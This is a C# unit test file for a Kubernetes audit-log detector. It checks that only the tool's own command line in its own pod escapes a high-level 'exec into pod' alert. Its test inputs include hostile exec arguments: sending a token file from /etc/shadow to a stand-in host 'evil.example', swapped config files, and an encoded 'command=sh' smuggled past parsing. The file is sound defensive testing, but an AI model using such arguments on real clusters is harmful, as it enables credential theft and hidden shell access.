using AuditWatch.Alerts;
using AuditWatch.Detection;
using AuditWatch.Processing;
using AuditWatch.Tests.Detection.Sigma;
using Microsoft.Extensions.Logging.Abstractions;

namespace AuditWatch.Tests.Processing;

/// <summary>Our own command line in our own pod is no attack, and nothing else passes for it.</summary>
public sealed class OwnCommandTests
{
    private const string Acknowledge = "command=%2Fapp%2Fauditwatch&command=alerts&command=acknowledge&command=4f1c&command=--config&command=%2Fetc%2Fauditwatch%2Fauditwatch.yaml";

    private static readonly DetectionSet Shipped = DetectionLoader.Load([RepositoryFiles.Detections], []);

    [Theory]
    [InlineData(Acknowledge)]
    [InlineData("command=/app/auditwatch&command=silence&command=add&command=actor%3Djane&command=--comment&command=planned+work")]
    public void Process_OurCommandInOurPod_IsOfLevelLowAndSaysSo(string command)
    {
        var alert = AlertOf(command);

        Assert.Equal(Level.Low, alert.Level);
        Assert.StartsWith("jane used AuditWatch's own command line, /app/auditwatch ", alert.Summary, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("command=sh")]
    [InlineData("command=/tmp/auditwatch&command=alerts&command=list")]
    [InlineData("command=/app/auditwatch&command=token&command=create")]
    [InlineData("command=/app/auditwatch&command=run")]
    [InlineData("command=/app/auditwatch+alerts")]
    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--url&command=https://evil.example&command=--token-file&command=/etc/shadow")]
    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--url%3Dhttps://evil.example")]
    [InlineData("command=/app/auditwatch&command=alerts&command=@/etc/shadow")]
    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--config&command=/tmp/evil.yaml")]
    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--config%3D/etc/shadow")]
    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--config")]
    [InlineData(Acknowledge + "&command=--config&command=/tmp/evil.yaml")]
    [InlineData("com%6Dand=sh&" + Acknowledge)]
    [InlineData(Acknowledge, "container=sidecar")]
    [InlineData(Acknowledge, "container=auditwatch&container=sidecar")]
    [InlineData(Acknowledge, "stdin=true")]
    [InlineData(Acknowledge, "container=auditwatch", "auditwatch-1")]
    [InlineData(Acknowledge, "container=auditwatch", "auditwatch-0", "staging")]
    public void Process_AnythingElse_IsWhatItWas(string command, string container = "container=auditwatch", string pod = "auditwatch-0", string space = "security") =>
        Assert.Equal(Level.High, AlertOf(command, container, pod, space).Level);

    [Fact]
    public void Process_OurCommandDenied_IsWhatItWas() => Assert.Equal(Level.Medium, AlertOf(Acknowledge, code: 403).Level);

    private static Alert AlertOf(string command, string container = "container=auditwatch", string pod = "auditwatch-0", string space = "security", int code = 101)
    {
        var failures = new EventFailures();
        var processor = new BatchProcessor(() => Stages, new LogAlerts(failures), NullLogger<BatchProcessor>.Instance)
        {
            OwnCommand = new OwnCommand(new OwnPod("security", "auditwatch-0", "auditwatch", "/app/auditwatch", "/etc/auditwatch/auditwatch.yaml")),
        };
        using var batch = Rule.Events($$"""
            {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"1","stage":"ResponseComplete","verb":"create","user":{"username":"jane","groups":["system:authenticated"]},
             "requestURI":"/api/v1/namespaces/{{space}}/pods/{{pod}}/exec?{{command}}&{{container}}&stdout=true&tty=false","sourceIPs":["10.0.0.1"],"userAgent":"kubectl/v1.30.0",
             "objectRef":{"resource":"pods","namespace":"{{space}}","name":"{{pod}}","apiVersion":"v1","subresource":"exec"},"responseStatus":{"code":{{code}}},
             "requestReceivedTimestamp":"2026-01-01T00:00:00.000000Z","stageTimestamp":"2026-01-01T00:00:01.000000Z"}
            """.ReplaceLineEndings(""));
        return processor.Process(batch).Changes.Select(change => change.Alert).First(alert => alert.Detection.Name == "exec_into_pod");
    }

    private static DetectionStages Stages => DetectionStages.For(Shipped.Of(Shipped.Rules.First(rule => rule.Name == "exec_into_pod")), NullLoggerFactory.Instance);
}
